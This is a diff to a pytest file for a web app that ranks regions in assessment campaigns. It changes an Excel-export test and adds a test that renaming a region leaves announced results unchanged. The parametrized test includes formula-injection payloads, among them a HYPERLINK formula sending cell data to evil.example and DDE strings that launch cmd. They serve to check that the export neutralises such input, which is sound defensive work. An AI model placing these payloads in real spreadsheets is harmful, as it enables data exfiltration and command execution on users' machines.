@@ -72,11 +72,14 @@ def test_results_chart_ranking_and_excel(client, scored):
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
-def test_the_excel_export_writes_a_formula_looking_region_name_as_text(client, scored, engine, name):
-    with engine.store.write() as session:
+def test_the_excel_export_writes_a_formula_looking_region_name_as_text(client, drive, engine, name):
+    with engine.store.write() as session:  # named so before it reports: a result keeps the name it reported with
         session.get(Region, BEIJING).name = name
+    for region, total in ((BEIJING, "91.5"), (TIANJIN, "55")):
+        drive.file_targets(region)
+        drive.score(region, total)
     login(client, "lead_agency")
-    sheet = load_workbook(io.BytesIO(client.get(f"/campaigns/{scored.campaign.id}/results.xlsx").data)).active
+    sheet = load_workbook(io.BytesIO(client.get(f"/campaigns/{drive.campaign.id}/results.xlsx").data)).active
     cell = next(row[2] for row in sheet.iter_rows(min_row=3) if row[1].value == BEIJING)
     assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
     assert sheet.cell(3, 4).data_type == "n" and not sheet.cell(3, 2).quotePrefix  # the rest stays as it was
@@ -256,3 +259,16 @@ def test_the_lead_agency_urges_one_overdue_task_or_all_of_them(client, engine, d
     assert len(urged) == 3 and {e.actor for e in urged} == {"lead_agency"}
     login(client, "gov-bj")
     assert post(client, f"/campaigns/{drive.campaign.id}/urge", {"overdue": "1"}).status_code == 403
+
+
+def test_renaming_a_region_does_not_rewrite_announced_results(client, engine, scored):
+    from engine.store.models import Region
+
+    scored.approve_and_announce()
+    with engine.store.write() as session:
+        session.get(Region, BEIJING).name = "北京市（改名）"
+    login(client, "lead_agency")
+    ranking = client.get(f"/campaigns/{scored.campaign.id}/results").text.split('id="ranking"')[1]
+    assert "<td>北京市</td>" in ranking and "改名" not in ranking
+    public = client.get(f"/public/campaigns/{scored.campaign.id}").text
+    assert "<td>北京市</td>" in public and "改名" not in public
